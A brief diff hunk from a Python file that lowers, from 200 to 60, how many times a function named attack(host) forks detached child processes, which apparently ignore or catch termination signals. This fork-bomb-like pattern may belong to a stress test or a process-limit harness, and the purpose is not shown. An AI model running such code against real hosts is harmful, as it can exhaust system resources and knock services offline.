@@ -14,7 +14,7 @@ from driver import Limit
 def attack(host):
     born = 0
     try:
-        while born < 200:
+        while born < 60:
             if os.fork() == 0:
                 os.setsid()
                 for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
